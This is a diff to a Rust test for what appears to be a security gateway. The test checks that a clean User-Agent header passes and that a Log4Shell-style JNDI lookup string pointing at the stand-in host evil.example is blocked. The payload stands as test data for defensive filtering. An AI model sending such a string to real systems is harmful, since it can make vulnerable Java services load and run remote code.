@@ -82,6 +82,22 @@ async fn attacks_in_every_part_of_a_request_are_refused_without_echo() {
         0,
         "no attack reached the upstream"
     );
+    // Clean header values are remembered per worker; an attack in the same header never is.
+    let ua = [(
+        "user-agent",
+        "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/133.0",
+    )];
+    let jndi = [("user-agent", "${jndi:ldap://evil.example/a}")];
+    for _ in 0..3 {
+        assert_eq!(
+            send(&client, request(&gw, "GET", "/", &ua, "")).await.0,
+            StatusCode::OK
+        );
+        assert_eq!(
+            send(&client, request(&gw, "GET", "/", &jndi, "")).await.0,
+            StatusCode::FORBIDDEN
+        );
+    }
     // The same over HTTP/2 (h2c), where bodies come without a length.
     let (what, method, path, headers, body) = attacks().swap_remove(7);
     let (s, _, _) = send(&h2c_client(), request(&gw, method, &path, &headers, &body)).await;
